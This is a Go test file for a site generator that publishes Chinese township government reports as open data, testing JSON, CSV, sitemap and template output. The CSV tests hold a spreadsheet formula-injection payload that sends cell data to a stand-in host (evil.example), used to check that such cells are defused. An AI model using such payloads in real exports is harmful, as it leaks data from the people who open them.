package site

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"html/template"
	"io"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"

	"nianbao/internal/assets"
	"nianbao/internal/cache"
	"nianbao/internal/content"
)

// TestRecordJSON checks the hand-written JSON of the open data against
// encoding/json, on awkward strings.
func TestRecordJSON(t *testing.T) {
	odd := []string{"", "后叶镇", `a"b\c`, "<script>&amp;</script>", "\b\f\n\r\t\x00\x1f\x7f", "\u2028\u2029",
		"bad \xff\xfe utf-8", "emoji 🎉", "\u00e9\u0301", "tab\tend", "\xe4\xb8", "line\u0085next"}
	r := rand.New(rand.NewPCG(1, 2))
	pick := func() string {
		if r.IntN(3) == 0 {
			return ""
		}
		return odd[r.IntN(len(odd))] + odd[r.IntN(len(odd))]
	}
	for i := 0; i < 500; i++ {
		rec := record{Meta: content.Meta{
			Title: pick(), Issuer: pick(), Province: pick(), City: pick(), County: pick(), Town: pick(), Code: pick(),
			Year: r.IntN(3) * 2021, Date: pick(), Signer: pick(), DocNumber: pick(), Recipient: pick(), Printer: pick(),
			Printed: pick(), IndexNumber: pick(), Published: pick(), Source: pick(), SourceSHA256: pick(),
		}, URL: pick(), Markdown: pick(), SourceURL: pick()}
		for n := r.IntN(3); n > 0; n-- {
			rec.Issuers = append(rec.Issuers, pick())
			rec.CC = append(rec.CC, pick())
			rec.Sections = append(rec.Sections, content.Section{Title: pick(), Kind: pick(), ID: pick()})
		}
		got := appendRecord(nil, &rec)
		// The open data leaves out private fields (the source's path in
		// the repository): the record json.Marshal writes without them.
		rec.Source = ""
		want, err := json.Marshal(rec)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, want) {
			t.Fatalf("record %d:\n got %s\nwant %s", i, got, want)
		}
	}
}

// TestSitemapForms checks the written sitemap against the XML encoder and
// minifier it replaces, with and without values that need escaping, and
// as a sitemap index.
func TestSitemapForms(t *testing.T) {
	type urlset struct {
		XMLName xml.Name       `xml:"http://www.sitemaps.org/schemas/sitemap/0.9 urlset"`
		URLs    []sitemapEntry `xml:"url"`
	}
	type index struct {
		XMLName  xml.Name       `xml:"http://www.sitemaps.org/schemas/sitemap/0.9 sitemapindex"`
		Sitemaps []sitemapEntry `xml:"sitemap"`
	}
	reference := func(v any) []byte {
		b, err := marshalXML(v)
		if err != nil {
			t.Fatal(err)
		}
		out, err := assets.NewMinifier().Bytes(assets.XML, b)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	for _, entries := range [][]sitemapEntry{
		{{Loc: "https://www.example.gov.cn/zwgk/", Lastmod: "2025-01-22"}, {Loc: "https://www.example.gov.cn/zwgk/towns/500235145/"}},
		{{Loc: "https://www.example.gov.cn/a?b=1&c=<2>", Lastmod: "2025-01-22"}, {Loc: "https://x/'\""}},
		{},
	} {
		got, err := sitemapXML("urlset", "url", entries)
		if err != nil {
			t.Fatal(err)
		}
		if want := reference(urlset{URLs: entries}); !bytes.Equal(got, want) {
			t.Errorf("urlset:\n got %s\nwant %s", got, want)
		}
		got, err = sitemapXML("sitemapindex", "sitemap", entries)
		if err != nil {
			t.Fatal(err)
		}
		if want := reference(index{Sitemaps: entries}); !bytes.Equal(got, want) {
			t.Errorf("sitemapindex:\n got %s\nwant %s", got, want)
		}
	}
}

// TestParseDayForms checks the regular-expression-free reading of ISO
// dates against the general one.
func TestParseDayForms(t *testing.T) {
	for _, s := range []string{"2022-01-10", "2022-02-29", "2024-02-29", "2022-13-01", "2022-00-10", "0000-01-01", "2022-1-10", "2022-01-10 09:30", "２０２２-01-10"} {
		fast, ok := parseISODay(s)
		m := dateRE.FindStringSubmatch(s)
		var slow day
		if m != nil {
			saved := s
			slow = parseDay(saved + " ") // the trailing space skips the fast path
		}
		if ok && fast != slow {
			t.Errorf("%q: %+v, want %+v", s, fast, slow)
		}
	}
}

// TestFirstSentence checks the cut of long leads by characters.
func TestFirstSentence(t *testing.T) {
	long := "一二三四五六七八九十一二三四五六七八九十"
	for in, want := range map[string]string{
		"短句。后文":             "短句。",
		long:                "一二三四五六七八九十……",
		"ab\xffcdefghijklm": "ab\ufffdcdefghi……",
	} {
		if got := firstSentence(in, 10); got != want {
			t.Errorf("firstSentence(%q) = %q, want %q", in, got, want)
		}
	}
	// firstSentence reads only the start of a long lead; it must say what
	// a reading of the whole text says.
	whole := func(s string, max int) string {
		s = strings.TrimSpace(s)
		if i := strings.IndexByte(s, '\n'); i >= 0 {
			s = s[:i]
		}
		if i := strings.Index(s, "。"); i >= 0 {
			s = s[:i+len("。")]
		}
		if r := []rune(s); len(r) > max {
			return string(r[:max]) + "……"
		}
		return s
	}
	parts := []string{"法", "治", "。", "\n", " ", "\u3000", "a", "\xff", "\xe6\xb3", "𠀀", "\t"}
	r := rand.New(rand.NewPCG(5, 6))
	for i := 0; i < 5000; i++ {
		var b strings.Builder
		for n := r.IntN(80); n > 0; n-- {
			p := parts[r.IntN(len(parts))]
			if r.IntN(3) > 0 { // mostly text, so that sentences run long
				p = parts[r.IntN(2)]
			}
			b.WriteString(p)
		}
		max := 1 + r.IntN(12)
		if got, want := firstSentence(b.String(), max), whole(b.String(), max); got != want {
			t.Fatalf("firstSentence(%q, %d) = %q, want %q", b.String(), max, got, want)
		}
	}
}

// TestCSVRow checks the hand-written CSV rows against encoding/csv: each
// cell as encoding/csv writes it, except that a cell a spreadsheet would
// take for a formula is written as encoding/csv writes it behind a ', and
// quoted even where encoding/csv would not quote it.
func TestCSVRow(t *testing.T) {
	fields := []string{"", "后叶镇", "a,b", `say "hi"`, "two\nlines", "cr\r\nlf", " lead", "\u3000全角", `\.`, "\r", "tail ", "x\"y,z\n",
		`=HYPERLINK("http://evil.example/?d="&A2)`, "=1+2", "+86 023", "-", "-5", "@SUM(A1)", "\tx", "\rx", "'quoted", "a=b"}
	cell := func(f string) []byte {
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		w.UseCRLF = true
		defused := csvFormula(f)
		if defused {
			f = "'" + f
		}
		if err := w.Write([]string{f}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		out := bytes.TrimSuffix(buf.Bytes(), []byte("\r\n"))
		if defused && out[0] != '"' {
			out = append(append([]byte{'"'}, out...), '"') // encoding/csv left it bare: nothing in it needs escaping
		}
		return out
	}
	r := rand.New(rand.NewPCG(3, 4))
	formulas := 0
	for i := 0; i < 500; i++ {
		row := make([]string, 1+r.IntN(6))
		var want []byte
		for k := range row {
			row[k] = fields[r.IntN(len(fields))] + fields[r.IntN(len(fields))]
			if k > 0 {
				want = append(want, ',')
			}
			want = append(want, cell(row[k])...)
			if csvFormula(row[k]) {
				formulas++
			}
		}
		want = append(want, '\r', '\n')
		if got := appendCSVRow(nil, row); !bytes.Equal(got, want) {
			t.Fatalf("row %q:\n got %q\nwant %q", row, got, want)
		}
	}
	if formulas == 0 {
		t.Error("no cell of the test starts a formula")
	}
	for f, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?d="&A2)`: `"'=HYPERLINK(""http://evil.example/?d=""&A2)"`,
		"+86 023": `"'+86 023"`, "-": `"'-"`, "-5": `"'-5"`, "@SUM(A1)": `"'@SUM(A1)"`, "\tx": "\"'\tx\"", "\rx": `"'x"`,
		"a=b": "a=b", "'quoted": "'quoted", "": "",
	} {
		if got := string(appendCSVRow(nil, []string{f})); got != want+"\r\n" {
			t.Errorf("cell %q is written %q, want %q", f, got, want+"\r\n")
		}
	}
}

// FuzzCSVRow checks that every cell reads back through encoding/csv as it
// was, or behind a ' when a spreadsheet would take it for a formula, and
// that no cell read back starts a formula. Carriage returns are the one
// loss: encoding/csv's writer drops them inside a cell, as appendCSVRow
// does, and its reader would turn a kept \r\n into \n (the JSON keeps
// them).
func FuzzCSVRow(f *testing.F) {
	for _, seed := range [][2]string{
		{`抄送：=HYPERLINK("http://evil.example/?d="&A2)`, `=HYPERLINK("http://evil.example/?d="&A2)`},
		{"+86 023 1234", "-"}, {"@SUM(A1)", "\t=1"}, {"\r=1", "a\r\nb"}, {"", `\.`}, {" lead", "x\"y,z\n"}, {"后叶镇", "\xff\xfe"},
	} {
		f.Add(seed[0], seed[1])
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		// The last cell is never empty: encoding/csv's reader skips the
		// empty line that a row of one empty cell is.
		row := []string{a, b, "end"}
		out := appendCSVRow(nil, row)
		rd := csv.NewReader(bytes.NewReader(out))
		got, err := rd.Read()
		if err != nil {
			t.Fatalf("row %q written %q does not read back: %v", row, out, err)
		}
		if _, err := rd.Read(); err != io.EOF {
			t.Fatalf("row %q written %q reads back as more than one row (%v)", row, out, err)
		}
		if len(got) != len(row) {
			t.Fatalf("row %q written %q reads back as %q", row, out, got)
		}
		for i, v := range row {
			want := strings.ReplaceAll(v, "\r", "")
			if csvFormula(v) {
				want = "'" + want
			}
			if got[i] != want {
				t.Errorf("cell %q written %q reads back as %q, want %q", v, out, got[i], want)
			}
			if csvFormula(got[i]) {
				t.Errorf("cell %q reads back as %q, which a spreadsheet takes for a formula", v, got[i])
			}
		}
	})
}

// TestTemplateUses checks which site-wide values the dependency analysis
// finds a template reading.
func TestTemplateUses(t *testing.T) {
	for src, want := range map[string]string{
		`{{.Site.Name}}{{.Data.Region.ReportCount}}`:                                "",
		`{{.Site.ReportCount}}`:                                                     "ReportCount",
		`{{$.Site.Updated}}`:                                                        "Updated",
		`{{with .Site}}{{.TownCount}}{{end}}`:                                       "TownCount",
		`{{$s := .Site}}{{$s.FirstYear}}`:                                           "FirstYear",
		`{{template "x" .Site}}{{define "x"}}{{.LastYear}}{{end}}`:                  "LastYear",
		`{{template "x" .Data}}{{define "x"}}{{.LastYear}}{{end}}`:                  "",
		`{{printf "%v" .Site}}`:                                                     "FirstYear LastYear ReportCount TownCount Updated",
		`{{range .Crumbs}}{{.Text}}{{end}}{{with .Chrome}}{{.Site.Updated}}{{end}}`: "Updated",
	} {
		tpl := template.Must(template.New("t").Parse(src))
		var got []string
		for f := range templateUses(tpl) {
			got = append(got, f)
		}
		sort.Strings(got)
		if strings.Join(got, " ") != want {
			t.Errorf("%s: uses %v, want %q", src, got, want)
		}
	}
}

// TestTemplatesReadNoSiteCounts guards incremental builds: if a page of
// one town, region, year or comparison showed a site-wide count or date,
// every such page would change with every report added.
func TestTemplatesReadNoSiteCounts(t *testing.T) {
	templates, _, problems := loadTemplates(os.DirFS(filepath.Join("..", "..", "templates")), "templates",
		template.FuncMap{"cached": func(string, any) (template.HTML, error) { return "", nil }}, nil)
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	whole := map[string]bool{"home": true, "search": true, "data": true, "compare-index": true, "404": true}
	for kind, tpl := range templates {
		if uses := templateUses(tpl); len(uses) > 0 && !whole[kind] {
			t.Errorf("%s pages read %v of the whole site", kind, uses)
		}
	}
}

// TestSiteViewHasEverySetting checks that the templates' .Site still holds
// every setting of site.yaml, now that they are copied one by one.
func TestSiteViewHasEverySetting(t *testing.T) {
	set := fixtureSettings()
	v := reflect.ValueOf(*newSiteView(&Site{}, set, linker{base: "/"}, "", "", ""))
	s := reflect.ValueOf(set)
	for i := 0; i < s.NumField(); i++ {
		name := s.Type().Field(i).Name
		f := v.FieldByName(name)
		if !f.IsValid() || !reflect.DeepEqual(f.Interface(), s.Field(i).Interface()) {
			t.Errorf(".Site.%s is missing or differs from the setting", name)
		}
	}
}

// TestOpenDataDictionary checks what a researcher gets besides the rows:
// no repository path in the data, a dictionary on the data page, the CSV's
// CSV on the Web metadata naming every column of its header in order, and
// the licence only as the settings state it (unknown said as unknown).
func TestOpenDataDictionary(t *testing.T) {
	cfg := fixtureConfig(t, "/")
	build(t, cfg)
	csvData := strings.TrimPrefix(read(t, cfg, "data/reports.csv"), "\ufeff")
	header, _, _ := strings.Cut(csvData, "\r\n")
	if slices.Contains(strings.Split(header, ","), "source") || strings.Contains(read(t, cfg, "data/reports.json"), `"source":`) {
		t.Error("the open data names the source's path in the repository")
	}
	var meta struct {
		Context string `json:"@context"`
		URL     string `json:"url"`
		License any    `json:"dc:license"`
		Schema  struct {
			Columns []struct {
				Name, Datatype, Separator string
				Titles                    map[string]string
			}
		} `json:"tableSchema"`
	}
	if err := json.Unmarshal([]byte(read(t, cfg, "data/reports.csv-metadata.json")), &meta); err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, c := range meta.Schema.Columns {
		names = append(names, c.Name)
		if c.Name == "year" && c.Datatype != "integer" || c.Name == "cc" && c.Separator != "；" || c.Name == "doc_number" && c.Titles["zh"] != "发文字号" {
			t.Errorf("column %+v", c)
		}
	}
	if meta.Context != "http://www.w3.org/ns/csvw" || meta.URL != "reports.csv" || strings.Join(names, ",") != header || meta.License != nil {
		t.Errorf("metadata: context %q, url %q, license %v, columns %q against the header %q", meta.Context, meta.URL, meta.License, names, header)
	}
	page := textOf(parseHTML(t, read(t, cfg, "data/index.html")))
	for _, want := range []string{"本站未注明开放数据的使用条件", "source_sha256", "收到的原件的 SHA-256 校验值", "doc_number 发文字号 发文字号 文本", "year 报告年度"} {
		if !strings.Contains(page, want) {
			t.Errorf("the data page lacks %q", want)
		}
	}
	// A licence the settings give is named and linked.
	cfg = fixtureConfig(t, "/")
	cfg.Settings.DataLicense = License{Name: "政府数据开放许可协议", URL: "https://data.example.gov.cn/license"}
	build(t, cfg)
	if page := read(t, cfg, "data/index.html"); !strings.Contains(page, "https://data.example.gov.cn/license") || !strings.Contains(page, "政府数据开放许可协议") {
		t.Error("the data page does not name the licence")
	}
	if m := read(t, cfg, "data/reports.csv-metadata.json"); !strings.Contains(m, `"@id": "https://data.example.gov.cn/license"`) {
		t.Errorf("the metadata does not name the licence:\n%s", m)
	}
}

// TestFormatNumber checks that the open data's numbers, whole ones written
// as integers, read exactly as strconv.FormatFloat(v, 'f', -1, 64) writes them.
func TestFormatNumber(t *testing.T) {
	for _, v := range []float64{0, math.Copysign(0, -1), 1, 12, 38650, 2.5, 0.1 + 0.2, 98.6, 1e14, 999999999999999, 1e15, 1e16, 1e21, -3, -2.25, math.MaxFloat64, math.SmallestNonzeroFloat64} {
		if got, want := formatNumber(v), strconv.FormatFloat(v, 'f', -1, 64); got != want {
			t.Errorf("formatNumber(%v) = %s, want %s", v, got, want)
		}
	}
}

// TestInChunksBlocks makes a file of every report with guesses of a
// report's size from far too small (a block for each report) to far too
// large, and some reports without bytes: the file must be the same, and
// each report's recorded place must hold its bytes.
func TestInChunksBlocks(t *testing.T) {
	cfg := fixtureConfig(t, "/")
	content := cloneFS(fixtureContent())
	for i := range 40 { // enough for chunks of several reports
		town, code := fmt.Sprintf("测试%d镇", i), fmt.Sprintf("5002352%02d", i)
		setFile(content, "cq/"+code+"-2021.md", reportFile("重庆市", "重庆市", "云阳县", town, code, 2021, "2022-01-05", "", body(town, 2021)))
	}
	cfg.Content = content
	bl := prepare(t, cfg)
	reports := bl.site.Reports
	if step := len(reports) / (8 * bl.pages.workers); step < 3 {
		t.Fatalf("%d reports make chunks of %d", len(reports), step)
	}
	bytesOf := func(r *Report) string {
		if r.Year%2 == 0 {
			return ""
		}
		return strings.Repeat(r.Town.Code+r.Town.Name, 1+r.Year%5)
	}
	var parts []string
	for _, r := range reports {
		if b := bytesOf(r); b != "" {
			parts = append(parts, b)
		}
	}
	want := "[" + strings.Join(parts, ",") + "]"
	defer bl.pages.spills.close()
	for _, per := range []int{1, 7, 64, 1 << 20} {
		spans := make([]cache.Span, len(reports))
		bl.pages.spans = &dataSpans{now: map[string][]cache.Span{"x": spans}}
		pieces, err := bl.pages.inChunks("x", "[", ",", "]", per, func(buf []byte, r *Report) ([]byte, error) {
			return append(buf, bytesOf(r)...), nil
		})
		if err != nil {
			t.Fatal(err)
		}
		var got []byte
		for _, p := range pieces {
			if p.Spill != nil { // the largest guess makes a file to spill
				b := make([]byte, p.N)
				if _, err := p.Spill.ReadAt(b, p.Off); err != nil {
					t.Fatal(err)
				}
				got = append(got, b...)
				continue
			}
			got = append(got, p.Data...)
		}
		if string(got) != want {
			t.Errorf("per %d: %d pieces give\n%s\nwant\n%s", per, len(pieces), got, want)
			continue
		}
		for i, r := range reports {
			s := spans[i]
			if g := string(got[s.Off : s.Off+s.N]); g != bytesOf(r) {
				t.Errorf("per %d: report %d is recorded at %d+%d, which holds %q, want %q", per, i, s.Off, s.N, g, bytesOf(r))
			}
		}
	}
}

// TestOpenDataSpill checks that open data and search postings kept in
// temporary files, as a large site's are, give byte for byte the files made
// in memory, in a full build and in an incremental one, and that the
// temporary files go.
func TestOpenDataSpill(t *testing.T) {
	defer func(above, run int) { spillAbove, searchRunBytes = above, run }(spillAbove, searchRunBytes)
	cfg := fixtureConfig(t, "/")
	content := cloneFS(fixtureContent())
	cfg.Content = content
	cfg.CacheDir = filepath.Join(t.TempDir(), "cache")
	clean := func() tree {
		spillAbove, searchRunBytes = 1<<62, 0
		c := cfg
		c.CacheDir = ""
		c.Out = filepath.Join(t.TempDir(), "public")
		build(t, c)
		return readTree(t, c.Out)
	}
	same := func(step string, got, want tree) {
		t.Helper()
		if len(got.files) != len(want.files) {
			t.Errorf("%s: %d files, want %d", step, len(got.files), len(want.files))
		}
		for name, data := range want.files {
			if !bytes.Equal(got.files[name], data) {
				t.Errorf("%s: %s differs from the file made in memory", step, name)
			}
		}
	}
	spillAbove, searchRunBytes = 0, 1
	build(t, cfg)
	same("full build", readTree(t, cfg.Out), clean())

	editFile(t, content, "cq/500235145-2022.md", "开展“八五”普法宣传活动。", "开展“八五”普法宣传活动。全年开展普法宣传活动12场次，受教育群众2200余人次。")
	spillAbove, searchRunBytes = 0, 1
	if res := build(t, cfg); !res.Incremental {
		t.Fatal("the rebuild was not incremental")
	}
	same("incremental build", readTree(t, cfg.Out), clean())
	left, _ := filepath.Glob(filepath.Join(cfg.CacheDir, ".*.tmp-*"))
	if len(left) > 0 {
		t.Errorf("left behind: %v", left)
	}
}
